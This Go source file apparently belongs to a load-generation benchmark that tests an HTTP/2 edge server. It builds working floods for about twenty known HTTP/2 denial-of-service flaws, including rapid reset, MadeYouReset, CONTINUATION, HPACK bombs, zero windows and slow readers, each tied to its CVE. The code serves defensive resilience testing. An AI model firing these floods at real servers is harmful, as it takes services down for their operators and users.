package bench

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"

	frames "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"sluice/loadgen/origin"
)

// An attack is what an attacker does over HTTP/2, in units at a rate. Its frames are written one by
// one, and nothing of them by the edge's own code.
type attack struct {
	name    string
	rate    int // units a second, over all connections
	conns   int // at once
	each    int // units on a connection, which then stays as it is; 0: as many as it takes
	spread  bool
	unread  bool // nothing is read of what comes
	initial uint32
	limit   int64  // bytes of memory that the edge may have; 0: any
	page    bool   // refusals have a page of pageBytes
	h2      bool   // the origin speaks HTTP/2, too
	path    string // what is asked for; "": the origin's page, or, where each is set, longAnswer
	unit    func(*attacker)
}

// memoryLimit is limits.memory under attacks on memory, pageBytes how long a page of a refusal is
// then, in bytes.
const memoryLimit, pageBytes = 128 << 20, 60_000

// openWide is a window that never closes, in bytes.
const openWide = 1<<31 - 1

// attacks are those on HTTP/2 that have a name: reset floods (CVE-2019-9514, CVE-2023-44487),
// MadeYouReset in each way that a client can have a server reset what it has asked for
// (CVE-2025-8671), heads without an end (CVE-2024-27316 and others), floods of frames that carry
// nothing (CVE-2019-9512, 9513, 9515, 9518), HPACK bombs and churn, windows that stay closed
// (CVE-2019-9511), answers that nobody reads (CVE-2019-9517) and names without a letter
// (CVE-2019-9516).
func attacks() []attack {
	reset := func(after func(a *attacker, id uint32)) func(*attacker) {
		return func(a *attacker) { after(a, a.request(true)) }
	}
	return []attack{
		{name: "rapid reset", rate: 20_000, conns: 4, initial: openWide,
			unit: reset(func(a *attacker, id uint32) {
				a.framer.WriteRSTStream(id, frames.ErrCodeCancel)
			})},
		{name: "reset flood", rate: 20_000, conns: 4, initial: openWide, unit: func(a *attacker) {
			a.head(a.stream(), append(a.get, literal("Capital", "x")...), true)
		}},
		{name: "MadeYouReset: window of 0", rate: 20_000, conns: 4, initial: openWide,
			unit: reset(func(a *attacker, id uint32) {
				a.framer.WriteWindowUpdate(id, 0)
			})},
		{name: "MadeYouReset: window overflow", rate: 20_000, conns: 4, initial: 65535,
			unit: reset(func(a *attacker, id uint32) {
				a.framer.WriteWindowUpdate(id, openWide)
			})},
		{name: "MadeYouReset: DATA after end", rate: 20_000, conns: 4, initial: openWide,
			unit: reset(func(a *attacker, id uint32) {
				a.framer.WriteData(id, true, []byte("x"))
			})},
		{name: "MadeYouReset: HEADERS after end", rate: 20_000, conns: 4, initial: openWide,
			unit: reset(func(a *attacker, id uint32) {
				a.head(id, a.get, true)
			})},
		{name: "MadeYouReset: PRIORITY of itself", rate: 20_000, conns: 4, initial: openWide,
			unit: reset(func(a *attacker, id uint32) {
				a.framer.WritePriority(id, frames.PriorityParam{StreamDep: id})
			})},
		{name: "MadeYouReset: PRIORITY of 4 bytes", rate: 20_000, conns: 4, initial: openWide,
			unit: reset(func(a *attacker, id uint32) {
				a.framer.WriteRawFrame(frames.FramePriority, 0, id, make([]byte, 4))
			})},
		{name: "CONTINUATION", rate: 50_000, conns: 4, initial: openWide, unit: func(a *attacker) {
			if a.open == 0 {
				a.open = a.stream()
				a.framer.WriteHeaders(frames.HeadersFrameParam{StreamID: a.open,
					BlockFragment: a.get, EndStream: true})
			}
			a.framer.WriteContinuation(a.open, false, literal("x-flood", strings.Repeat("x", 200)))
		}},
		{name: "SETTINGS", rate: 50_000, conns: 4, initial: openWide, unit: func(a *attacker) {
			a.framer.WriteSettings(frames.Setting{ID: frames.SettingInitialWindowSize,
				Val: uint32(65535 - a.said%2)})
		}},
		{name: "PING", rate: 50_000, conns: 4, initial: openWide, unit: func(a *attacker) {
			a.framer.WritePing(false, [8]byte{byte(a.said)})
		}},
		// One tree after the other, turned upside down
		{name: "PRIORITY", rate: 50_000, conns: 4, initial: openWide, unit: func(a *attacker) {
			a.framer.WritePriority(uint32(2*(a.said%1000)+1),
				frames.PriorityParam{StreamDep: uint32(2*((a.said+1+a.said/1000)%1000) + 1),
					Exclusive: true, Weight: byte(a.said)})
		}},
		{name: "empty DATA", rate: 50_000, conns: 4, initial: openWide, unit: func(a *attacker) {
			if a.open == 0 {
				a.open = a.request(false)
			}
			a.framer.WriteData(a.open, false, nil)
		}},
		// 4 KB once, and then by a byte each
		{name: "HPACK bomb", rate: 200, conns: 4, initial: openWide, unit: func(a *attacker) {
			b := append(a.get, 0x40)
			b = append(binary.AppendUvarint(append(b, 1, 'x', 0x7f), 3900-0x7f),
				strings.Repeat("x", 3900)...)
			a.head(a.stream(), append(b, bytes.Repeat([]byte{0xbe}, 8000)...), true)
		}},
		// A new table for each request
		{name: "HPACK churn", rate: 2000, conns: 4, initial: openWide, unit: func(a *attacker) {
			b := []byte{0x20, 0x3f, 0xe1, 0x1f} // of no bytes, and of 4096
			b = append(b, a.get...)
			for i := range 60 {
				name := fmt.Sprintf("x-%d-%d", a.said, i)
				b = append(append(b, 0x40, byte(len(name))), name...)
				b = append(b, 8, 'v', 'a', 'l', 'u', 'e', byte(i), '-', '-')
				b[len(b)-3] = byte('0' + i)
			}
			a.head(a.stream(), b, true)
		}},
		{name: "windows of 0", rate: 2000, conns: 20, each: 100, spread: true,
			unit: reset(func(*attacker, uint32) {})},
		{name: "answers not read", rate: 2000, conns: 20, each: 100, spread: true, unread: true,
			initial: openWide, unit: reset(func(*attacker, uint32) {})},
		{name: "pages of a blocked source", rate: 10_000, conns: 64, each: 128, limit: memoryLimit,
			page: true, path: "/", unit: func(a *attacker) {
				a.head(a.stream(), append(slices.Clone(a.get), literal("accept", "text/html")...),
					true)
			}},
		{name: "long heads", rate: 10_000, conns: 64, each: 100, spread: true, limit: memoryLimit,
			path: "/", unit: (*attacker).longHead},
		{name: "slow readers", rate: 10_000, conns: 64, each: 100, spread: true, initial: 1000,
			limit: memoryLimit, path: veryLongAnswer, unit: reset(func(*attacker, uint32) {})},
		{name: "slow readers of an HTTP/2 origin", rate: 10_000, conns: 64, each: 100, spread: true,
			initial: 1000, limit: memoryLimit, path: veryLongAnswer, h2: true,
			unit: reset(func(*attacker, uint32) {})},
		{name: "names without a letter", rate: 2000, conns: 4, initial: openWide,
			unit: func(a *attacker) {
				a.head(a.stream(), append(a.get, bytes.Repeat([]byte{0x40, 0, 0}, 100)...), true)
			}},
	}
}

// AttackNames are the attacks that are made if none is named.
func AttackNames() (names []string) { return namesOf(false) }

// MemoryAttackNames are the attacks on memory, under which the edge has memoryLimit.
func MemoryAttackNames() (names []string) { return namesOf(true) }

func namesOf(onMemory bool) (names []string) {
	for _, a := range attacks() {
		if a.limit > 0 == onMemory {
			names = append(names, a.name)
		}
	}
	return names
}

// An attacker is the frames of one connection that are still to be written, and what there has been
// of it.
type attacker struct {
	out    bytes.Buffer
	framer *frames.Framer
	get    []byte // the heads of an ordinary request, and of one with a body
	post   []byte
	last   uint32 // stream
	open   uint32 // one that goes on; 0: none does
	said   int    // units
}

// newAttacker begins a connection whose streams have such a window.
func newAttacker(path string, initial uint32) *attacker {
	a := &attacker{get: ordinary("GET", path), post: ordinary("POST", path)}
	a.framer = frames.NewFramer(&a.out, nil)
	a.framer.AllowIllegalWrites = true
	a.out.WriteString(frames.ClientPreface)
	a.framer.WriteSettings(frames.Setting{ID: frames.SettingInitialWindowSize, Val: initial},
		frames.Setting{ID: frames.SettingEnablePush, Val: 0})
	a.framer.WriteSettingsAck()
	if initial > 0 {
		a.framer.WriteWindowUpdate(0, openWide-65535)
	}
	return a
}

func (a *attacker) stream() uint32 {
	if a.last++; a.last > 1 {
		a.last++
	}
	return a.last
}

// request asks for something, with or without saying that this is all.
func (a *attacker) request(end bool) uint32 {
	id, block := a.stream(), a.get
	if !end {
		block = a.post
	}
	a.head(id, block, end)
	return id
}

func (a *attacker) head(id uint32, block []byte, end bool) {
	a.framer.WriteHeaders(frames.HeadersFrameParam{StreamID: id, BlockFragment: block,
		EndStream: end, EndHeaders: true})
}

// longHead asks with a head of 31 KB: 3.9 KB once, and then by a byte each.
func (a *attacker) longHead() {
	const size, times = 3900, 8
	b := slices.Clone(a.get)
	if a.last == 0 {
		b = append(binary.AppendUvarint(append(b, 0x40, 1, 'x', 0x7f), size-0x7f),
			strings.Repeat("x", size)...)
		b = append(b, bytes.Repeat([]byte{0xbe}, times-1)...)
	} else {
		b = append(b, bytes.Repeat([]byte{0xbe}, times)...)
	}
	a.head(a.stream(), b, true)
}

// ordinary is the block of a request, which changes no table.
func ordinary(method, path string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":path", path},
		{":authority", tlsName}} {
		e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: f[0] == ":path" ||
			f[0] == ":authority"})
	}
	return slices.Clip(b.Bytes())
}

// literal is a field that stays out of the table.
func literal(name, value string) []byte {
	b := append(append([]byte{0, byte(len(name))}, name...), 0x7f)
	if len(value) < 0x7f {
		b[len(b)-1] = byte(len(value))
	} else {
		b = binary.AppendUvarint(b, uint64(len(value)-0x7f))
	}
	return append(b, value...)
}

// longAnswer is what somebody asks for who does not take it.
var longAnswer, veryLongAnswer = origin.BytesPath + "30000", origin.BytesPath + "1000000"
